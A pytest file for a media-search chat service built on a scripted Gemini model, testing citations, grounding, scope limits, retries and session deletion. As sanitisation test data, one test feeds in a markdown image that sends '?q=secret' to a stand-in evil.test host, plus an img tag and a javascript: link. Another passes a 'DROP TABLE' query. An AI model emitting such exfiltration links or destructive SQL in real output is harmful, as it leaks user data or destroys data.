"""A turn from its question to its answer: what is looked at, what is said, what is told on the way."""

import asyncio
from typing import Any

import pytest

from tests.chat.world import ChatWorld, call, events_of, say, scripted, text, whole


def station(chat: ChatWorld, index_id: str = "") -> Any:
    film = chat.film(index_id, "Evening news")
    run = chat.look(
        film,
        {"headline": "A reporter stands outside a railway station"},
        {"headline": "A cook slices onions in a kitchen"},
        {"headline": "Rain falls on an empty harbour"},
        whole={"program_summary": "News about trains, food and weather"},
    )
    return film, run


def test_a_turn_looks_and_answers_with_what_it_found(chat: ChatWorld) -> None:
    film, run = station(chat)
    chat.gemini.say = scripted(
        say(call("search_media", "c2lnbmVk", query="reporter outside a station")),
        say(text("A reporter stands outside a railway station, at 00:00. [r1]")),
    )
    turn = chat.turn(chat.session(), "Where is the reporter?")
    assert turn["status"] == "completed" and turn["error"] is None
    [citation] = turn["assistant_message"]["citations"]
    assert turn["assistant_message"]["content"] == "A reporter stands outside a railway station, at 00:00. [1]"
    assert (citation["video_id"], citation["run_id"], citation["start_time"]) == (film.video_id, run.run_id, 0.0)
    [made] = turn["result_sets"]
    assert citation["result_id"] in [one["result_id"] for one in made["results"]]
    assert made["result_set_id"] == citation["result_set_id"] == turn["tool_trace"][0]["result_set_id"]
    assert turn["effective_scope"] == {"index_ids": ["playground"], "prompt_run_ids": []}
    assert turn["stats"]["steps"] == 2 and turn["stats"]["tool_calls"] == 1


def test_the_stream_tells_the_same_turn_in_order(chat: ChatWorld) -> None:
    station(chat)
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text("There is a reporter. [r1]")))
    turn = chat.turn(chat.session(), "Is there a reporter?")
    events = turn.pop("events")
    kinds = [event["type"] for event in events]
    assert kinds == [
        "turn_started",
        "agent_state",
        "agent_state",
        "tool_call_started",
        "tool_call_result",
        "agent_state",
        "assistant_delta",
        "turn_completed",
    ]
    assert [event["sequence"] for event in events] == list(range(1, 9))
    assert events[-1]["turn"] == turn
    assert "".join(e["delta"] for e in events if e["type"] == "assistant_delta") == turn["assistant_message"]["content"]


def test_what_the_model_said_goes_back_to_it_untouched(chat: ChatWorld) -> None:
    station(chat)
    parts = [{"text": "thinking", "thought": True}, call("search_media", "c2lnbmVk", query="a"), call("describe_scope")]
    chat.gemini.say = scripted(say(*parts), say(text("Done.")))
    chat.turn(chat.session(), "Look.")
    asked = [body for body in chat.gemini.asked if "contents" in body][-1]
    [_, said, answered] = asked["contents"]
    assert said == {"role": "model", "parts": parts}
    assert [part["functionResponse"]["name"] for part in answered["parts"]] == ["search_media", "describe_scope"]
    assert asked["toolConfig"]["functionCallingConfig"]["mode"] == "VALIDATED"


def test_a_name_that_was_never_given_is_dropped_and_counted(chat: ChatWorld) -> None:
    station(chat)
    answer = "A reporter is there. [r1, r99] A dragon flies by. [r77]"
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text(answer)))
    turn = chat.turn(chat.session(), "What is there?")
    assert turn["assistant_message"]["content"] == "A reporter is there. [1]"
    assert turn["stats"]["citations_dropped"] == 2 and turn["stats"]["sentences_dropped"] == 1


@pytest.mark.parametrize(
    "false",
    ['She says "the moon is made of cheese today". [r1]', "It happens at 12:34. [r1]", "“no such words anywhere”"],
)
def test_what_the_evidence_does_not_say_is_dropped(chat: ChatWorld, false: str) -> None:
    station(chat)
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text(f"A reporter stands there. [r1] {false}")))
    turn = chat.turn(chat.session(), "What is said?")
    assert turn["assistant_message"]["content"] == "A reporter stands there. [1]"
    assert turn["stats"]["sentences_dropped"] == 1


def test_nothing_found_is_said_plainly_whatever_the_model_says(chat: ChatWorld) -> None:
    chat.gemini.say = scripted(say(call("search_media", query="dragon")), say(text("A dragon burns the town at noon.")))
    turn = chat.turn(chat.session(), "Is there a dragon?")
    assert turn["assistant_message"]["content"] == "Nothing in the selected media answers this."
    assert turn["assistant_message"]["grounded"] is False and turn["tool_trace"][0]["status"] == "empty"


def test_an_answer_leads_nowhere_else(chat: ChatWorld) -> None:
    station(chat)
    evil = (
        "A reporter. [r1] ![x](https://evil.test/?q=secret) See [this](https://evil.test/a) or http://evil.test/b "
        "<img src=//evil.test/c> gs://bucket/x javascript:alert(1)"
    )
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text(evil)))
    turn = chat.turn(chat.session(), "What is there?")
    content = turn["assistant_message"]["content"]
    assert "evil" not in content and "://" not in content and "<" not in content and "javascript" not in content
    assert turn["stats"]["addresses_removed"] >= 5


def test_sql_answers_are_cited_by_their_set(chat: ChatWorld) -> None:
    station(chat)
    sql = "SELECT count(*) AS n FROM playground"
    chat.gemini.say = scripted(
        say(call("describe_tables")), say(call("query_tables", sql=sql)), say(text("There are 3 segments. [q1]"))
    )
    turn = chat.turn(chat.session(), "How many segments?")
    [made] = turn["result_sets"]
    assert made["rows"] == [{"n": 3}] and made["query"]["sql"] == sql
    assert turn["assistant_message"]["content"] == "There are 3 segments. [1]"
    assert turn["assistant_message"]["citations"][0]["result_type"] == "query"


def test_a_fault_of_a_tool_goes_back_to_the_model(chat: ChatWorld) -> None:
    station(chat)
    wrong = [call("no_such_tool"), call("search_media", query=""), call("query_tables", sql="DROP TABLE playground")]
    chat.gemini.say = scripted(say(*wrong, call("get_segments", video_id="vid_x")), say(text("I could not look.")))
    turn = chat.turn(chat.session(), "Look.")
    codes = [one["error"]["code"] for one in turn["tool_trace"]]
    assert codes == ["unknown_tool", "invalid_arguments", "invalid_query", "out_of_scope"]
    assert turn["status"] == "completed"


def test_the_last_step_has_no_tools_and_calls_end_with_the_budget(chat: ChatWorld) -> None:
    station(chat)
    modes: list[str] = []

    def always_calls(body: dict[str, Any]) -> tuple[int, dict[str, Any]]:
        mode = body["toolConfig"]["functionCallingConfig"]["mode"]
        modes.append(mode)
        parts = [call("search_media", query=f"x{n}") for n in range(5)]
        return say(*parts) if mode == "VALIDATED" else say(text("That is all."))

    chat.gemini.say = always_calls
    turn = chat.turn(chat.session(), "Look everywhere.")
    assert modes == ["VALIDATED"] * 3 + ["NONE"] and turn["status"] == "completed"
    assert [one["status"] for one in turn["tool_trace"]].count("error") == 3  # fifteen asked, twelve made


def test_a_follow_up_knows_what_was_said_before(chat: ChatWorld) -> None:
    film, _ = station(chat)
    session = chat.session()
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text("A reporter. [r1]")))
    chat.turn(session, "Who is there?")
    chat.gemini.say = scripted(say(text("Before.")))
    chat.turn(session, "And then?")
    contents = chat.gemini.asked[-1]["contents"]
    assert [one["role"] for one in contents] == ["user", "model", "user"]
    assert film.video_id in contents[1]["parts"][0]["text"] and "from_seconds=0.0" in contents[1]["parts"][0]["text"]


def test_a_turn_looks_only_where_it_was_told_to(chat: ChatWorld) -> None:
    inside, outside = chat.index(), chat.index()
    film, run = station(chat, inside.index_id)
    other, other_run = station(chat, outside.index_id)
    chat.gemini.say = scripted(
        say(
            call("search_media", query="reporter", top_k=20),
            call("search_media", query="reporter", index_ids=[outside.index_id]),
            call("search_media", query="reporter", prompt_run_ids=[other_run.run_id]),
            call("get_segments", video_id=other.video_id),
            call("query_tables", sql=f"SELECT * FROM {outside.index_id}"),
        ),
        say(text("A reporter. [r1]")),
    )
    scope = {"index_ids": [inside.index_id], "prompt_run_ids": [run.run_id]}
    turn = chat.turn(chat.session(), "Who?", scope=scope)
    assert turn["effective_scope"] == scope
    assert [one["status"] for one in turn["tool_trace"]] == ["ok", "error", "error", "error", "error"]
    assert {one["video_id"] for made in turn["result_sets"] for one in made["results"]} == {film.video_id}


def test_a_scope_that_is_not_the_callers_is_a_404(chat: ChatWorld) -> None:
    session = chat.session()
    for scope, code in (({"index_ids": ["idx_x"]}, "index_not_found"), ({"prompt_run_ids": ["run_x"]}, "run_not_found")):
        answer = chat.ask("POST", f"/chat/sessions/{session}/turns", {"message": "x", "scope": scope})
        assert (answer.status, answer.error) == (404, code)
    answer = chat.ask("POST", f"/chat/sessions/{session}/turns", {"message": "x"}, user="bob")
    assert (answer.status, answer.error) == (404, "session_not_found")


def test_a_call_that_is_not_streamed_answers_with_the_whole_turn(chat: ChatWorld) -> None:
    station(chat)
    chat.gemini.say = scripted(say(text("Good day.")))
    answer = chat.ask("POST", f"/chat/sessions/{chat.session()}/turns", {"message": "Hello", "idempotency_key": "k1"})
    chat.world.deliver()
    import json

    said = json.loads(asyncio.run(whole(answer.body)))
    assert said["status"] == "completed" and said["turn"]["assistant_message"]["content"] == "Good day."
    assert said["assistant_message"] == said["turn"]["assistant_message"]


def test_a_model_that_is_busy_is_asked_again_and_one_that_stays_so_ends_the_turn(chat: ChatWorld) -> None:
    session, refusals = chat.session(), iter([(429, {"error": {"code": 429, "message": "busy"}})])
    chat.gemini.say = lambda body: next(refusals, None) or say(text("Here."))
    assert chat.turn(session, "Hello")["status"] == "completed"
    chat.gemini.say = lambda body: (503, {"error": {"code": 503, "message": "out", "status": "UNAVAILABLE"}})
    turn = chat.turn(session, "Hello again")
    assert turn["status"] == "failed" and turn["error"]["code"] == "model_unavailable" and turn["error"]["retryable"]
    assert turn["events"][-1]["type"] == "error" and turn["events"][-1]["code"] == "model_unavailable"


@pytest.mark.parametrize(
    ("finish", "code"),
    [("MALFORMED_FUNCTION_CALL", "model_stopped"), ("UNEXPECTED_TOOL_CALL", "model_stopped"), ("SAFETY", "model_blocked")],
)
def test_a_model_that_stumbles_is_asked_once_more_and_one_that_declines_is_not(chat: ChatWorld, finish: str, code: str) -> None:
    chat.gemini.say = lambda body: say(finish=finish)
    turn = chat.turn(chat.session(), "Hello")
    assert (turn["status"], turn["error"]["code"]) == ("failed", code)
    assert len(chat.gemini.asked) == (1 if finish == "SAFETY" else 2)


def test_results_of_deleted_media_are_not_shown_again(chat: ChatWorld) -> None:
    film, _ = station(chat)
    session = chat.session()
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text("A reporter. [r1]")))
    chat.turn(session, "Who?")
    batch = chat.store.batch()
    batch.raw_update(film, {"deleted_at": chat.store.clock()})
    batch.commit()
    turn = chat.last(session)
    assert turn["result_sets"][0]["results"] == [] and turn["assistant_message"]["citations"] == []


def test_a_deleted_session_goes_with_all_its_turns(chat: ChatWorld) -> None:
    station(chat)
    session = chat.session()
    chat.gemini.say = scripted(say(call("search_media", query="reporter")), say(text("A reporter. [r1]")))
    chat.turn(session, "Who?")
    assert chat.ask("DELETE", f"/chat/sessions/{session}").json["status"] == "draining"
    assert chat.ask("GET", f"/chat/sessions/{session}").error == "session_not_found"
    chat.world.deliver()
    assert chat.ask("DELETE", f"/chat/sessions/{session}").json["status"] == "deleted"
    left = [one.reference.path for one in chat.store.db.collection_group("blocks").stream()]
    left += [one.reference.path for one in chat.store.db.collection_group("steps").stream()]
    assert left == [] and chat.ask("GET", "/chat/sessions").json == []


def test_a_turn_can_be_stopped(chat: ChatWorld) -> None:
    session = chat.session()
    body = chat.begin(session, "Look.")
    turn_id = chat.stored(session)[0].turn_id
    assert chat.ask("POST", f"/chat/sessions/{session}/turns/{turn_id}/cancel").status == 200
    chat.world.deliver()
    events = events_of(asyncio.run(whole(body)))
    assert events[-1]["type"] == "error" and events[-1]["code"] == "turn_cancelled"
    assert chat.last(session)["status"] == "cancelled" and chat.gemini.asked == []
